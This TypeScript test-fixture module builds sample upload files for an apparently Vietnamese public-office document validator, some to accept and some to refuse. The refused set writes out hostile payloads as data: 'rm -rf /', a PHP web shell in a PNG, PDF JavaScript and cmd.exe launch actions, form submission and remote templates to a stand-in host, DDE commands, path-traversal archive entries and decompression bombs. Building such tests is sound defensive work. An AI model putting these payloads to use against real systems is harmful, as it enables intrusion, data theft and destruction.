/** Test files, made on the spot: ones an office must take and ones it must refuse. Used by tests only. */
import { deflateSync, gzipSync } from 'node:zlib';
import {
  aDocx,
  aJpeg,
  aPdf,
  aPng,
  aXlsx,
  aZip,
  chunk,
  eoi,
  noise,
  packedObjects,
  relationship,
  segment,
  sheetTypes,
  soi,
  stream,
  wordTypes,
} from './file-builders.ts';
import type { FileProblem, FileType } from './file-type.ts';

/** A file to take, and as what. */
export interface GoodFile {
  readonly name: string;
  readonly type: FileType;
  readonly bytes: Buffer;
}

/** A file to refuse, and why. */
export interface HostileFile {
  readonly name: string;
  readonly problem: FileProblem;
  readonly bytes: Buffer;
}

const cut = (file: Buffer, share = 0.6) => file.subarray(0, Math.floor(file.length * share));
const exif = (text: string | Buffer) =>
  segment(0xe1, Buffer.concat([Buffer.from('Exif\0\0'), Buffer.from(text as Buffer)]));

/** Files as they come to a counter: scans, phone photos, forms, workbooks. */
export function goodFiles(): GoodFile[] {
  const good = (type: FileType) => (name: string, bytes: Buffer) => ({ name, type, bytes });
  const [pdf, jpeg, png, docx, xlsx] = [good('pdf'), good('jpeg'), good('png'), good('docx'), good('xlsx')];
  const page = stream('/Type/XObject/Subtype/Image/Filter/DCTDecode', aJpeg());
  const row = (_: unknown, i: number) => `<row r="${i}"><c><v>Hồ sơ số ${(i * 7919) % 100_003}</v></c></row>`;
  const rows = `<worksheet>${Array.from({ length: 200_000 }, row).join('')}</worksheet>`;
  return [
    pdf('Giấy khai sinh.pdf', aPdf()),
    pdf('Bản quét 300 trang – Quyển số 01.pdf', aPdf({ objects: Array.from({ length: 300 }, () => page) })),
    pdf('Sơ yếu lý lịch.pdf', aPdf({ objects: [packedObjects('5 0 <</Type/Annot/Subtype/Link>>')] })),
    pdf('Tờ khai có liên kết.pdf', aPdf({ objects: ['<</Type/Action/S/URI/URI(https://example.vn)>>'] })),
    pdf('Mở vừa trang.pdf', aPdf({ catalogue: '/OpenAction[3 0 R/Fit]/PageLayout/SinglePage' })),
    pdf(
      'Bản cập nhật.pdf',
      Buffer.concat([aPdf(), Buffer.from('\n4 0 obj\n<<>>\nendobj\nstartxref\n0\n%%EOF')]),
    ),
    pdf('Dấu gạch (đã ký).pdf', aPdf({ tail: '\r\n\r\n' })),
    jpeg('Ảnh thẻ 4×6.jpg', aJpeg()),
    jpeg('CCCD mặt trước.jpeg', aJpeg({ before: [exif(Buffer.concat([noise(300), soi, noise(50), eoi]))] })),
    jpeg('Ảnh điện thoại 48 MP.jpg', aJpeg({ width: 8000, height: 6000 })),
    jpeg(
      'Ảnh chuyển động.jpg',
      aJpeg({ after: Buffer.concat([Buffer.from('\0\0\0\x18ftypmp42'), noise(5000)]) }),
    ),
    jpeg('Ảnh nén luỹ tiến.JPG', aJpeg({ scans: 5 })),
    jpeg('Chú thích tiếng Việt.jpg', aJpeg({ before: [segment(0xfe, Buffer.from('Đất ở tại Hải Châu'))] })),
    png('Sơ đồ thửa đất.png', aPng()),
    png('Chụp màn hình ứng dụng.png', aPng({ extra: [chunk('tEXt', Buffer.from('Title\0Ảnh'))] })),
    docx('Đơn đề nghị.docx', aDocx()),
    docx(
      'Hợp đồng có liên kết.docx',
      aDocx({ 'word/_rels/document.xml.rels': relationship('hyperlink', 'https://example.vn') }),
    ),
    docx(
      'Mẫu của phòng.docx',
      aDocx({ 'word/_rels/settings.xml.rels': relationship('attachedTemplate', 'file:///C:/Mau/Don.dotx') }),
    ),
    docx('Báo cáo có biểu đồ.docx', aDocx({ 'word/embeddings/so-lieu.xlsx': aXlsx() })),
    docx('Đơn có ảnh.docx', aDocx({ 'word/media/image1.jpg': aJpeg(), 'word/media/image2.png': aPng() })),
    xlsx('Danh sách hộ nghèo.xlsx', aXlsx()),
    xlsx('Sổ theo dõi cả năm.xlsx', aXlsx({ 'xl/worksheets/sheet1.xml': rows })),
  ];
}

/** Files that must not reach an officer's machine, each with the reason it is refused for. */
export function hostileFiles(): HostileFile[] {
  return [...hostileTypes(), ...hostilePdfs(), ...hostileImages(), ...hostileOffice(), ...hostileArchives()];
}

const bad = (problem: FileProblem, name: string, bytes: Buffer | string): HostileFile => ({
  name,
  problem,
  bytes: Buffer.from(bytes as Buffer),
});

function hostileTypes(): HostileFile[] {
  return [
    bad('empty', 'Trang trắng.pdf', ''),
    bad('type', 'Trang.html', '<!doctype html><script>alert(1)</script>'),
    bad('type', 'Hình.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    bad('type', 'Giấy mời.pdf', '<html><body>%PDF-1.7</body></html>'),
    bad('type', 'Ghi chú.txt', 'Xin chào'),
    bad('type', 'Cài đặt.pdf', Buffer.concat([Buffer.from('MZ\x90\0'), noise(500)])),
    bad('type', 'tệp chạy.jpg', Buffer.concat([Buffer.from('\x7fELF'), noise(500)])),
    bad('type', 'script.sh', '#!/bin/sh\nrm -rf /'),
    bad('type', 'Văn bản cũ.doc', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), noise(600)])),
    bad('type', 'động.gif', 'GIF89a\x01\0\x01\0'),
    bad('type', 'nén.gz', gzipSync('x')),
    bad('type', 'tự giải nén.docx', Buffer.concat([Buffer.from('MZ'), aDocx()])),
  ];
}

function hostilePdfs(): HostileFile[] {
  const action = (text: string) =>
    aPdf({ objects: [`<</Type/Action/S/${text}>>`], catalogue: '/OpenAction 4 0 R' });
  const script = '5 0 <</S/JavaScript/JS(app.alert(1))>>';
  return [
    bad('pdf-script', 'Có mã lệnh.pdf', action('JavaScript/JS(app.alert(1))')),
    bad('pdf-script', 'Giấu tên mã lệnh.pdf', action('J#61va#53cript/J#53(app.alert(1))')),
    bad('pdf-script', 'Mã trong gói.pdf', aPdf({ objects: [packedObjects(script)] })),
    bad(
      'pdf-script',
      'Gói không ghi loại.pdf',
      aPdf({ objects: [stream('/N 1/First 4/Filter/FlateDecode', deflateSync(script))] }),
    ),
    bad(
      'pdf-script',
      'Gói không nén.pdf',
      aPdf({ objects: [stream('/Type/ObjStm/N 1/First 4', Buffer.from(script))] }),
    ),
    bad('pdf-script', 'Mã trong chú thích.pdf', aPdf({ objects: [`% stream\n<</S/JavaScript>>`] })),
    bad('pdf-launch', 'Chạy chương trình.pdf', action('Launch/F(cmd.exe)')),
    bad('pdf-launch', 'Gửi dữ liệu ra ngoài.pdf', action('SubmitForm/F(https://xau.example)')),
    bad(
      'pdf-encrypted',
      'Có mật khẩu.pdf',
      aPdf({ trailer: '/Encrypt 4 0 R', objects: ['<</Filter/Standard/V 2>>'] }),
    ),
    bad(
      'pdf-attachment',
      'Kèm tệp ẩn.pdf',
      aPdf({ objects: [stream('/Type/EmbeddedFile', Buffer.from('MZ'))] }),
    ),
    bad('pdf-attachment', 'Biểu mẫu động.pdf', aPdf({ catalogue: '/AcroForm<</XFA 4 0 R>>' })),
    bad(
      'pdf-unreadable',
      'Gói mã hoá lạ.pdf',
      aPdf({ objects: [packedObjects(script, '/Filter[/ASCIIHexDecode/FlateDecode]')] }),
    ),
    bad(
      'pdf-unreadable',
      'Bom trong gói.pdf',
      aPdf({ objects: [packedObjects(Buffer.alloc(80 * 1024 * 1024))] }),
    ),
    bad('pdf-unreadable', 'Triệu luồng.pdf', aPdf({ objects: [Buffer.alloc(3_500_000, 'stream ')] })),
    bad('pdf-unreadable', 'Triệu tên.pdf', aPdf({ objects: [Buffer.alloc(5_000_000, '/')] })),
    bad('truncated', 'Tải dở.pdf', cut(aPdf())),
    bad('polyglot', 'Hai loại.pdf', Buffer.concat([aPdf(), aZip({ 'a.js': 'alert(1)' })])),
    bad(
      'polyglot',
      'Trang web giả.pdf',
      aPdf().toString('latin1').replace('\n%', '\n%<script>alert(1)</script>'),
    ),
  ];
}

function hostileImages(): HostileFile[] {
  return [
    bad('image-too-large', 'Bom điểm ảnh.jpg', aJpeg({ width: 65_500, height: 65_500 })),
    bad('image-too-large', 'Bom điểm ảnh.png', aPng({ width: 2_000_000, height: 2_000_000 })),
    bad('image-too-large', 'Không có cỡ.png', aPng({ width: 0 })),
    bad('truncated', 'Ảnh dở.jpg', cut(aJpeg())),
    bad('truncated', 'Chỉ có đầu.jpg', Buffer.from('ffd8ffe0', 'hex')),
    bad('truncated', 'Ảnh dở.png', cut(aPng())),
    bad('truncated', 'Sai tổng kiểm.png', Buffer.from(aPng()).fill(1, 45, 46)),
    bad('truncated', 'Có đuôi lạ.png', aPng({ after: noise(100) })),
    bad('polyglot', 'Kèm mã.png', aPng({ after: Buffer.from('<?php system($_GET[0]);') })),
    bad('polyglot', 'Kèm mã trong EXIF.jpg', aJpeg({ before: [exif('<script>alert(1)</script>')] })),
    bad('polyglot', 'Ảnh là PDF.jpg', aJpeg({ before: [segment(0xfe, Buffer.from('%PDF-1.4 '))] })),
    bad('polyglot', 'Ảnh là tệp nén.jpg', aJpeg({ after: aZip({ 'a.exe': 'MZ' }) })),
  ];
}

function hostileOffice(): HostileFile[] {
  const macroTypes = wordTypes.replace('document.main', 'document.macroEnabled.main');
  const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), noise(100)]);
  const settings = 'word/_rels/settings.xml.rels';
  return [
    bad('office-macro', 'Có macro.docm', aDocx({}, macroTypes)),
    bad('office-macro', 'Macro đổi đuôi.docx', aDocx({ 'word/vbaProject.bin': ole })),
    bad(
      'office-macro',
      'Macro kiểu cũ.xlsx',
      aXlsx(
        {},
        sheetTypes.replace(
          '</Types>',
          '<Override ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
        ),
      ),
    ),
    bad(
      'office-active',
      'Mẫu từ xa.docx',
      aDocx({ [settings]: relationship('attachedTemplate', 'https://xau.example/a.dotm') }),
    ),
    bad(
      'office-active',
      'Mẫu qua SMB.docx',
      aDocx({ [settings]: relationship('attachedTemplate', '\\\\xau.example\\a') }),
    ),
    bad('office-active', 'Đối tượng nhúng.docx', aDocx({ 'word/embeddings/oleObject1.bin': ole })),
    bad('office-active', 'Chương trình nhúng.docx', aDocx({ 'word/media/image1.png': 'MZ\x90\0' })),
    bad(
      'office-active',
      'Lệnh DDE.docx',
      aDocx({ 'word/footer1.xml': '<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>' }),
    ),
    bad('office-active', 'Tệp nén lồng.docx', aDocx({ 'word/media/a.bin': aZip({ 'a.exe': 'MZ' }) })),
    bad(
      'archive-bomb',
      'Thực thể XML.docx',
      aDocx({ 'word/a.xml': '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>' }),
    ),
  ];
}

function hostileArchives(): HostileFile[] {
  const zeros = Buffer.alloc(20 * 1024 * 1024, ' ');
  const types = { '[Content_Types].xml': wordTypes };
  const many = Array.from({ length: 5000 }, (_, i) => [`word/${i}.xml`, ''] as const);
  const twice = [...Object.entries(types), ['word/a.xml', '1'], ['word/A.xml', '2']] as const;
  return [
    bad('type', 'Ảnh gộp.zip', aZip({ 'anh.jpg': aJpeg() })),
    bad('archive-bomb', 'Bom nén.docx', aDocx({ 'word/a.xml': zeros })),
    bad('archive-bomb', 'Quá nhiều phần.docx', aZip([...Object.entries(types), ...many])),
    bad(
      'archive-bomb',
      'Khai quá lớn.docx',
      aDocx({ 'word/a.xml': { data: noise(9000), declaredBytes: 900_000_000 } }),
    ),
    bad(
      'archive-bomb',
      'Chồng phần.docx',
      aDocx({ '[Content_Types].xm1': { data: wordTypes, localName: '[Content_Types].xml', at: 0 } }),
    ),
    bad('archive-bomb', 'Lồng ba lớp.docx', aDocx({ 'a.xlsx': aXlsx({ 'b.docx': aDocx() }) })),
    bad('archive-damaged', 'Khai man cỡ.docx', aDocx({ 'word/a.xml': { data: zeros, declaredBytes: 1000 } })),
    bad('archive-damaged', 'Thoát thư mục.docx', aDocx({ '../../etc/cron.d/a': 'x' })),
    bad('archive-damaged', 'Đường dẫn Windows.docx', aDocx({ '..\\..\\a.bat': 'x' })),
    bad('archive-damaged', 'Có mật khẩu.docx', aDocx({ 'word/a.xml': { data: 'x', encrypted: true } })),
    bad('archive-damaged', 'Hai phần trùng tên.docx', aZip(twice)),
    bad(
      'archive-damaged',
      'Hai tên khác nhau.docx',
      aDocx({ 'word/a.xml': { data: 'x', localName: 'word/b.xml' } }),
    ),
    bad('truncated', 'Tải dở.docx', cut(aDocx())),
    bad('archive-damaged', 'Có đuôi.docx', Buffer.concat([aDocx(), noise(40)])),
  ];
}
